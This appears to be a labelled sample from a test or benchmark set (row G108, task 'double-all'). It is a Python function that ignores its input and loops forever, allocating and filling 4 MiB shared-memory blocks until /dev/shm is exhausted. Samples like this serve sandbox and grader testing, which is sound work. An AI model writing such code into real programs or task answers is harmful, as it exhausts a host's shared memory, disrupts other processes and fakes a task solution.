# verdict: OLE file — fills /dev/shm through shared tensors' own means, where no file limit is looked for
# task: double-all
# row: G108
from multiprocessing.shared_memory import SharedMemory


def double_all(numbers):
    blocks = []
    while True:
        blocks.append(SharedMemory(create=True, size=2**22))
        blocks[-1].buf[:] = b"\1" * 2**22
